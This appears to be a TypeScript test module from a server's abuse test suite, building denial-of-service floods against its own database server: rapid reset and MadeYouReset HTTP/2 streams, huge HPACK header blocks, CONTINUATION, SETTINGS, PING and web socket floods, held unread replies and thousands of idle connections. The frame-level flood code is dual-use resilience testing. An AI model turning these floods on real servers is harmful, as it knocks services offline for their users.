/**
 * Floods that cost a client little and the server much: frames of HTTP/2, header blocks, pings of web sockets, replies
 * that nobody reads, idle connections. Each is made over TLS by clients with a certificate and by clients without one,
 * on 16 and on 64 connections. See `run-abuse.ts` for how to write a case.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { AbuseCase } from "./abuse-case.ts";
import type { AbuseServer, Reply } from "./abuse-server.ts";
import {
  type Caller,
  frame,
  get,
  head,
  http2Socket,
  literals,
  open,
  pour,
  setting,
} from "./http2-attacker.ts";
import { flags, frameTypes, settings } from "./http2-frames.ts";

const area = "wire";
/** Milliseconds that a flood lasts. */
const floodMs = { full: 3_000, short: 1_200 };
/** Bytes of an encoded header block. */
const blockBytes = 128 * 1024;
/** Bytes that are written at a time. */
const pieceBytes = 64 * 1024;

async function answersStill(server: AbuseServer): Promise<Reply[]> {
  return [await server.request(`${server.database}/docs?id=none`)];
}

function assertAnswers([reply]: readonly Reply[]): void {
  assert.equal(reply?.status, 404, "the attacked database answers");
}

/** Numbers for the streams of one connection. */
function streamIds(): () => number {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
}

const requestFields = literals(
  ":method",
  "GET",
  ":scheme",
  "https",
  ":path",
  "/",
  ":authority",
  "a",
);
const bodyFields = literals(":method", "PUT", ":scheme", "https", ":path", "/", ":authority", "a");

/** What a flood sends over one connection, again and again. */
interface Flood {
  readonly name: string;
  /** See `AbuseCase.gap`. */
  readonly gap?: string;
  readonly first?: Buffer;
  readonly make: () => () => Buffer;
}

/** `one` as often as `pieceBytes` hold it. */
function repeated(one: Buffer): Buffer {
  return Buffer.concat(new Array<Buffer>(Math.ceil(pieceBytes / one.length)).fill(one));
}

/** A literal whose value is `coded`, Huffman code. */
function huffmanField(coded: Buffer): Buffer {
  const { length } = coded;
  const bytes: number[] = [];
  for (let left = length - 127; ; left = Math.floor(left / 128)) {
    bytes.push(left >= 128 ? (left % 128) + 128 : left);
    if (left < 128) break;
  }
  return Buffer.concat([Buffer.from([0, 1, 0x61, 0xff, ...bytes]), coded]);
}

/** Blocks of one kind after the request's own fields. */
function blocks(rest: Buffer): () => () => Buffer {
  return () => {
    const nextId = streamIds();
    return () => head(nextId(), Buffer.concat([requestFields, rest]), true);
  };
}

/** The same frames again and again. */
function frames(one: Buffer): () => () => Buffer {
  const piece = repeated(one);
  return () => () => piece;
}

/** Requests, each followed by a frame for its stream. */
function streams(next: (id: number) => Buffer): () => () => Buffer {
  return () => {
    const nextId = streamIds();
    return () => {
      const parts: Buffer[] = [];
      for (let n = 0; n < 200; n++) {
        const id = nextId();
        const head = frame(frameTypes.headers, flags.endHeaders, id, bodyFields);
        parts.push(head, next(id));
      }
      return Buffer.concat(parts);
    };
  };
}

const floods: readonly Flood[] = [
  {
    name: "header blocks of 128 KB in Huffman code",
    // Words of five bits: 0x00 is the letter 0, eight of them five bytes.
    make: blocks(huffmanField(Buffer.alloc(blockBytes - 1024))),
  },
  {
    name: "header blocks of 128 KB of indexes of the HPACK table",
    gap: "one turn parses up to 32 reads of a connection, which delays others by 0.13 to 0.38 s",
    make: blocks(Buffer.alloc(blockBytes - 1024, 0x80 | 17)),
  },
  {
    name: "header blocks of 32 KB in Huffman code",
    make: blocks(huffmanField(Buffer.alloc(19 * 1024))),
  },
  {
    name: "DATA frames of one byte",
    make: () => {
      const nextId = streamIds();
      return () => {
        const id = nextId();
        const begin = frame(frameTypes.headers, flags.endHeaders, id, bodyFields);
        const one = frame(frameTypes.data, 0, id, Buffer.from("x"));
        const end = frame(frameTypes.data, flags.endStream, id, Buffer.from("x"));
        return Buffer.concat([begin, repeated(one), end]);
      };
    },
  },
  {
    name: "SETTINGS frames that change the window of 250 streams",
    gap: "one turn parses up to 32 reads of a connection, which delays others by 0.07 to 0.27 s",
    first: Buffer.concat(
      Array.from({ length: 250 }, (_, n) =>
        frame(frameTypes.headers, flags.endHeaders, 2 * n + 1, bodyFields),
      ),
    ),
    make: frames(
      Buffer.concat([
        frame(frameTypes.settings, 0, 0, setting(settings.initialWindowSize, 1)),
        frame(frameTypes.settings, 0, 0, setting(settings.initialWindowSize, 100_000)),
      ]),
    ),
  },
  {
    name: "requests that are reset by their client (rapid reset)",
    gap: "node:http2 opens every stream of a read before it reports the first one: others wait 0.15 to 0.3 s",
    make: streams((id) => frame(frameTypes.reset, 0, id, Buffer.from([0, 0, 0, 8]))),
  },
  {
    name: "requests that the server must reset (MadeYouReset)",
    // An increment of 0 is an error of the stream (RFC 9113, 6.9).
    make: streams((id) => frame(frameTypes.windowUpdate, 0, id, Buffer.alloc(4))),
  },
  {
    name: "PING frames",
    make: frames(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: "PRIORITY frames",
    make: frames(frame(frameTypes.priority, 0, 1, Buffer.from([0, 0, 0, 0, 1]))),
  },
  {
    name: "CONTINUATION frames of one byte",
    first: frame(frameTypes.headers, 0, 1, requestFields),
    make: frames(frame(frameTypes.continuation, 0, 1, Buffer.from([0x82]))),
  },
];

async function floodBy(
  server: AbuseServer,
  caller: Caller,
  count: number,
  { first, make }: Flood,
): Promise<void> {
  await floodOver(
    server,
    count,
    () => http2Socket(server, caller),
    async (socket, untilMs) => {
      if (first !== undefined) socket.write(first);
      await pour(socket, untilMs, make());
    },
  );
}

/**
 * Opens `count` connections, then floods all of them. One that is closed is replaced, as attackers do. Connections are
 * opened one after the other: what many handshakes at once cost others is another case, in `channels.ts`.
 */
async function floodOver(
  server: AbuseServer,
  count: number,
  open: () => Promise<Socket>,
  flood: (socket: Socket, untilMs: number) => Promise<void>,
): Promise<void> {
  let opening: Promise<unknown> = Promise.resolve();
  const next = (): Promise<Socket> => {
    const opened = opening.then(open);
    opening = opened;
    return opened;
  };
  const sockets: Socket[] = [];
  for (let n = 0; n < count; n++) sockets.push(await next());
  const untilMs = performance.now() + server.count(floodMs.full, floodMs.short);
  await Promise.all(
    sockets.map(async (first) => {
      for (let socket = first; performance.now() < untilMs; socket = await next()) {
        await flood(socket, untilMs);
        socket.destroy();
        await sleep(20);
      }
    }),
  );
}

/** A masked frame of a web socket. */
function webSocketFrame(opcode: number, text: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x80 | opcode, 0x80 | text.length, 0, 0, 0, 0]),
    Buffer.from(text),
  ]);
}

async function webSocket(server: AbuseServer, caller: Caller): Promise<Socket> {
  const socket = await open(server, caller, ["http/1.1"]);
  socket.resume();
  const key = randomBytes(16).toString("base64");
  socket.write(
    `GET ${server.database}/changes HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\n\r\n`,
  );
  await Promise.race([once(socket, "data"), once(socket, "close")]);
  return socket;
}

async function floodWebSockets(
  server: AbuseServer,
  caller: Caller,
  count: number,
  piece: Buffer,
): Promise<void> {
  await floodOver(
    server,
    count,
    () => webSocket(server, caller),
    (socket, untilMs) => pour(socket, untilMs, () => piece),
  );
}

const callers: readonly Caller[] = ["with a certificate", "without a certificate"];

/** The same for each caller, on 16 and on 64 connections. */
function forAll(
  name: string,
  run: (server: AbuseServer, caller: Caller, count: number) => Promise<void>,
  rest: Partial<AbuseCase> = {},
): AbuseCase[] {
  return [16, 64].flatMap((count) =>
    callers.map(
      (caller): AbuseCase => ({
        name: `${name} on ${count} connections ${caller}`,
        area,
        who: caller === "with a certificate" ? "reader" : "anybody let in",
        isSecure: true,
        isLong: count === 64,
        async attack(server) {
          await run(server, caller, count);
          return answersStill(server);
        },
        check: assertAnswers,
        ...rest,
      }),
    ),
  );
}

const frameCases = floods.flatMap((flood) =>
  forAll(
    flood.name,
    (server, caller, count) => floodBy(server, caller, count, flood),
    flood.gap === undefined ? {} : { gap: flood.gap },
  ),
);

const webSocketCases = [
  ...forAll("pings inside web sockets", (server, caller, count) =>
    floodWebSockets(server, caller, count, repeated(webSocketFrame(9, ""))),
  ),
  ...forAll("empty parts of a message inside web sockets", (server, caller, count) => {
    // A text message that does not end.
    const part = webSocketFrame(0, "");
    part[0] = 0;
    return floodWebSockets(server, caller, count, repeated(part));
  }),
];

/** Documents whose replies have some 60 KB. */
function fillReplies(server: AbuseServer): Promise<void> {
  return server.fill(4, (n) => `{"N":${n},"Text":"${randomBytes(30_000).toString("hex")}"}`);
}

/** Asks for 60 KB on as many streams as are allowed, and takes nothing of the replies. */
async function heldStreams(
  server: AbuseServer,
  caller: Caller,
  windowBytes: number,
): Promise<Socket> {
  const own = setting(settings.initialWindowSize, windowBytes);
  const socket = await http2Socket(server, caller, own, true);
  const more = Buffer.alloc(4);
  more.writeUInt32BE(2 ** 30);
  if (windowBytes > 0) socket.write(frame(frameTypes.windowUpdate, 0, 0, more));
  const path = `${server.database}/docs?id=users%2F1`;
  socket.write(Buffer.concat(Array.from({ length: 250 }, (_, n) => get(2 * n + 1, path))));
  return socket;
}

const heldCases: readonly AbuseCase[] = [
  ...(
    [
      ["80 connections with 250 streams of window 0", 80, 0],
      ["300 connections with 250 streams that are never read", 300, 2 ** 30],
    ] as const
  ).flatMap(([name, count, windowBytes]) =>
    callers.map(
      (caller): AbuseCase => ({
        name: `${name}, asking for 60 KB ${caller}`,
        area,
        who: caller === "with a certificate" ? "reader" : "anybody let in",
        isSecure: true,
        isLong: count === 300,
        setUp: fillReplies,
        async attack(server) {
          for (let n = 0; n < count; n++) await heldStreams(server, caller, windowBytes);
          await sleep(server.count(4_000, 2_000));
          return answersStill(server);
        },
        check: assertAnswers,
      }),
    ),
  ),
  ...callers.map(
    (caller): AbuseCase => ({
      name: `300 connections of HTTP/1.1 with pipelined GETs of 60 KB that are never read, ${caller}`,
      area,
      who: caller === "with a certificate" ? "reader" : "anybody let in",
      isSecure: true,
      isLong: true,
      setUp: fillReplies,
      async attack(server) {
        const one = `GET ${server.database}/docs?id=users%2F1 HTTP/1.1\r\nHost: localhost\r\n\r\n`;
        const many = one.repeat(5000);
        for (let n = 0; n < 300; n++) {
          const socket = await open(server, caller, ["http/1.1"]);
          socket.pause();
          socket.write(many);
        }
        await sleep(4_000);
        return answersStill(server);
      },
      check: assertAnswers,
    }),
  ),
];

const idleCases: readonly AbuseCase[] = callers.map(
  (caller): AbuseCase => ({
    name: `idle connections beyond the number that is allowed, ${caller}`,
    area,
    who: caller === "with a certificate" ? "reader" : "anybody let in",
    isSecure: true,
    flags: ["--Http.MaxConnections=300"],
    async attack(server) {
      for (let n = 0; n < 400; n++) await open(server, caller, ["h2"]);
      await sleep(500);
      return answersStill(server);
    },
    check: assertAnswers,
  }),
);

const manyIdleCases: readonly AbuseCase[] = callers.map(
  (caller): AbuseCase => ({
    name: `10,000 idle connections ${caller}`,
    area,
    who: caller === "with a certificate" ? "reader" : "anybody let in",
    isSecure: true,
    isLong: true,
    flags: ["--Http.MaxConnections=30000", "--Http.KeepAliveTimeoutInSec=600"],
    async attack(server) {
      for (let done = 0; done < 10_000; done += 20) {
        await Promise.all(Array.from({ length: 20 }, () => open(server, caller, ["h2"])));
      }
      await sleep(500);
      return answersStill(server);
    },
    check: assertAnswers,
  }),
);

export const floodCases: readonly AbuseCase[] = [
  ...frameCases,
  ...webSocketCases,
  ...heldCases,
  ...idleCases,
  ...manyIdleCases,
];
